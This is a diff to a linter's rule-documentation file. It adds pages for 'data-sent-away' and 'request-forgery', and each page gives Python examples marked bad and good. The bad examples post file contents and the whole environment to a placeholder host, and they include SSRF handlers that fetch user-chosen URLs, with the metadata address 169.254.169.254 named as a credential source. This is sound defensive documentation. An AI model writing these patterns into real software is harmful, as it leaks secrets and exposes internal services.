@@ -1,5 +1,47 @@
 // Written by scripts/rule-pages.mjs.
 export const pages: Readonly<Record<string, string>> = {
+  'data-sent-away': `# data-sent-away
+
+The contents of a file, or the environment, in the body of a request: this is what stealing looks like. A token in a header is what headers are for and is not reported.
+
+## How to fix
+
+Give results back as the answer. Where an upload is the point, run with an egress policy that names the host.
+
+## Bad
+
+\`\`\`python
+import os
+import socket
+
+import requests
+
+with open("report.csv", "rb") as file:
+    body = file.read()
+
+
+def send(data):
+    requests.post("https://example.com/in", data=data)  # error: [data-sent-away]
+
+
+send(body)
+requests.post("https://example.com/in", json={"e": dict(os.environ)})  # error: [data-sent-away]
+requests.post("https://example.com/in", files={"f": open("a")})  # error: [data-sent-away]
+link = socket.socket()
+link.sendall(body)  # error: [data-sent-away]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import os
+
+import requests
+
+requests.post("https://example.com/in", json={"a": 1})
+requests.get("https://example.com", headers={"Authorization": os.environ["TOKEN"]})
+\`\`\`
+`,
   'frame-from-address': `# frame-from-address
 
 \`pandas.read_csv\`, \`to_parquet\` and their like take addresses (\`https://\`, \`s3://\`, \`ftp://\`, \`file://\`) as well as paths. A line that looks like reading a file is then a download, and one that looks like saving a table sends it away.
@@ -68,6 +110,55 @@ parts = urllib.parse.urlparse("https://example.com")
 iris = load_iris()
 values = {"a": 1}
 values.get("https://example.com")
+\`\`\`
+`,
+  'request-forgery': `# request-forgery
+
+Whoever says where a request goes can have it go inside: to \`http://169.254.169.254/\` for the machine's credentials, to a database on the same network, to \`file://\`. The answer comes back to him, and the request carries the server's rights. Where scheme and host are constant and only the rest is chosen, nothing is reported.
+
+## How to fix
+
+Choose the host from a fixed list, and check the resolved address against private and link-local ranges, at every redirect again.
+
+## Bad
+
+\`\`\`python
+import requests
+from fastapi import FastAPI
+from flask import request
+
+app = FastAPI()
+
+
+@app.get("/fetch")
+async def fetch(url: str):
+    return requests.get(url).text  # error: [request-forgery]
+
+
+def proxy():
+    target = "http://" + request.args["host"] + "/status"
+    return requests.get(target)  # error: [request-forgery]
+
+
+first = requests.get("https://example.com/next").text
+second = requests.get(first)  # error: [request-forgery]
+\`\`\`
+
+## Good
+
+\`\`\`python
+import requests
+from fastapi import FastAPI
+
+app = FastAPI()
+
+
+@app.get("/item")
+async def item(name: str):
+    return requests.get(f"https://api.example.com/items/{name}").json()
+
+
+requests.get("https://example.com", params={"q": 1})
 \`\`\`
 `,
 }
